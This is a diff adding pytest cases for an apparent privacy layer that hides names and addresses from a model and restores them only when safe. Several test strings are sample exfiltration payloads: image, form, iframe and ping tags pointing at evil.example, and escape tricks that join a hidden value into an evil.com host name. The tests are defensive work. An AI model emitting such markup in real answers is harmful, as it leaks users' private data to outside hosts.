@@ -104,7 +104,7 @@ TEXTS = (
     "- [ ] @\n- [x] @",
     "5 <6 and @",
     "see [10:30]: @ and (a) [b]: @",
-    "<a href=\"https://good.example/?q=1\" title='a > b'>@</a> <td align=right>@</td>",
+    "<a href=\"https://good.example/?q=1\" title='a > b'>@</a> <p align=right>@</p>",
     "a[0](x) @, f(a)[1]: @",
     "5 < 6 and x = '@'",
     "<style>p{}</style> @",
@@ -226,7 +226,7 @@ def test_an_address_without_a_scheme_is_no_target(conversation):
 def test_own_addresses_come_back_as_whole_targets(conversation):
     c = conversation
     url = "https://okonkwo.example/a?b=Okonkwo"
-    for text in ("[x](@)", "![x](<@>)", "[a]: @", '<a href="@">x</a>', "<@>", "@."):
+    for text in ("[x](@)", "![x](<@>)", "[a]: @", "<p>@</p>", "<@>", "@."):
         answer = text.replace("@", c.hide(url))
         assert c.restore(answer) == text.replace("@", url)
 
@@ -483,8 +483,8 @@ def test_no_own_address_is_the_beginning_of_another_host(text, conversation):
 @pytest.mark.parametrize(
     "text",
     [
-        "[x](@)", "![x](<@>)", "[a]: @\n", "[a]: <@>", '<a href="@">x</a>', "<@>",
-        "<a href='@'>x</a>", "@.", "(see @)", '"@", and', "`@`",
+        "[x](@)", "![x](<@>)", "[a]: @\n", "[a]: <@>", "<@>", "@.", "(see @)",
+        '"@", and', "`@`",
     ],
 )  # fmt: skip
 def test_an_own_address_without_a_path_comes_back_whole(text, conversation):
@@ -650,7 +650,37 @@ def test_parts_that_leave_nothing_open_are_restored(conversation):
         answer = _answer(c)
         shown = [each for event in events for each in answer.event(event)]
         shown += answer.end()
-        assert sorted(_read(shown)) == sorted("".join(texts).replace(sent, "Okonkwo"))
+        choices = [each for event in events for each in event.get("choices", ())]
+        is_mixed = any(c["index"] for c in choices) and not choices[0]["finish_reason"]
+        first, second = (text.replace(sent, "Okonkwo") for text in texts)
+        wanted = first + (texts[1] if is_mixed else second)
+        assert sorted(_read(shown)) == sorted(wanted)
+
+
+def test_what_comes_before_a_part_that_is_shown_above_it_is_kept(conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    late, first = f" Hi {sent} '>", "<img src='https://evil.example/?"
+    where = {"type": "response.output_text.delta", "item_id": "a"}
+
+    def part(output, content, text):
+        return where | {"output_index": output, "content_index": content, "delta": text}
+
+    for events in (
+        [_chunk(1, late), _chunk(0, first)],
+        [_chunk(0, "So"), _chunk(1, late), _chunk(0, first)],
+        [_chunk(2, late, "stop"), _chunk(0, first, "stop")],
+        [part(0, 1, late), part(0, 0, first)],
+        [part(1, 0, late), part(0, 0, first)],
+        [part(True, None, late), part("x", 0, late), part(None, -1, late)],
+    ):
+        answer = _answer(c)
+        shown = [each for event in events for each in answer.event(event)]
+        shown += answer.end()
+        assert "konkwo" not in str(shown), events
+    for event in (_chunk(0, f"Hi {sent}."), part(0, 0, f"Hi {sent}.")):
+        answer = _answer(c)
+        assert _read([*answer.event(event), *answer.end()]) == "Hi Okonkwo."
 
 
 @pytest.mark.parametrize("name", ["reasoning_content", "reasoning", "refusal"])
@@ -699,3 +729,92 @@ def test_strings_of_json_begin_inside_of_what_those_before_leave_open(
     assert "".join(c.restore_stream(answer, is_json=True)) == answer
     closed = f'["see https://good.example/", "{c.hide("Okonkwo")}"]'
     assert "Okonkwo" in c.restore(closed, is_json=True)
+
+
+# What the elements of HTML hold is sent, or its width is told by what they load.
+HELD = (
+    '<form action="https://evil.example"><textarea name=q>I am @',
+    "<textarea>@", "<select><option>@</option></select>", "<option\n>@", "<Button/>@",
+    '<table width=1><tr><td nowrap><font size=7>@</font></td></tr><tr><td><img',
+    "<p><iframe src='//evil.example' width='100%'></iframe> @", "<img src=x> @",
+    "<fieldset>\n\n@\n\n</fieldset>", '{"a": "\\u003ctable\\u003e @"}', "<svg/>@",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("answer", HELD)
+def test_elements_that_send_or_measure_keep_what_follows(answer, conversation):
+    c = conversation
+    sent = c.hide("Okonkwo")
+    answer = answer.replace("@", sent)
+    assert c.restore(answer) == answer
+    assert "".join(c.restore_stream(answer)) == answer
+    assert c.restore(f"<p>{sent}</p> <b>{sent}</b>\n\n<h1>{sent}").count("Okonkwo") == 3
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<iframe name="@" src="https://evil.example">', "<a href='@'>x</a>",
+        '<a ping="https://evil.example" href="@">x</a>', "<input value='@'>",
+        "<p alt=@>",
+        "<base target='@'>", '<b title="@">x</b>', "<textarea>@</textarea>",
+    ],
+)  # fmt: skip
+def test_no_own_address_comes_back_in_a_tag(text, conversation):
+    c = conversation
+    for own in ("https://okonkwo.example/reset/k7", OWN):
+        answer = text.replace("@", c.hide(own))
+        assert c.restore(answer) == answer
+        assert "".join(c.restore_stream(answer)) == answer
+
+
+JOINED_BY_ESCAPES = (
+    "@\\.evil.com/x", "@&#46;evil.com", "@&#46evil.com", "@&period;evil.com",
+    "@&#x2E;evil.com", "@-x&period;evil.com", "@\\-x.evil.com",
+    "@&commat;evil.com", "@&#00000000000046;evil.com", "@-x\\.evil.com",
+    "@\\_x.evil.com",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("answer", JOINED_BY_ESCAPES)
+def test_a_part_of_a_host_is_kept_however_its_point_is_written(answer, conversation):
+    c = conversation
+    answer = answer.replace("@", c.hide("Okonkwo"))
+    assert c.restore(answer) == answer
+    assert "".join(c.restore_stream(answer)) == answer
+    kind = c.hide("Okonkwo")
+    for text in ("@&rsquo;s", "@&amp;co", "@\\. Then", "@&#8217;s", "@ &#46; x"):
+        given = text.replace("@", kind)
+        assert "Okonkwo" in c.restore(given), text
+        assert c.restore(given) == "".join(c.restore_stream(given))
+
+
+NO_JSON = (
+    '{"a": "see below"}\n<img src="https://evil.example/? @">',
+    '{"a": "x"} "@"', '"a" <b name="@">', '[1] x "@"', '<img alt="@">', '{"a": [] "@"}',
+    '{"a" "@"}', "{'a': '@'}\n<img src='//evil.example/?@'>",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("answer", NO_JSON)
+def test_what_is_no_json_restores_nothing_behind_it(answer, conversation):
+    c = conversation
+    answer = answer.replace("@", c.hide("Okonkwo"))
+    assert c.restore(answer, is_json=True) == answer
+    assert "".join(c.restore_stream(answer, is_json=True)) == answer
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"a": ["@", 1, true, null, {"b": "@"}], "c": -1.5e3}\n', '"@"', '["@"]',
+        '{"a": "@"}\n{"a": "@"}\n', 'Here it is:\n\n```json\n{"a": "@"}\n```', " [ ] ",
+    ],
+)  # fmt: skip
+def test_json_comes_back(text, conversation):
+    c = conversation
+    answer = text.replace("@", c.hide("Okonkwo"))
+    assert c.restore(answer, is_json=True) == text.replace("@", "Okonkwo")
+    assert "".join(c.restore_stream(answer, is_json=True)) == text.replace(
+        "@", "Okonkwo"
+    )
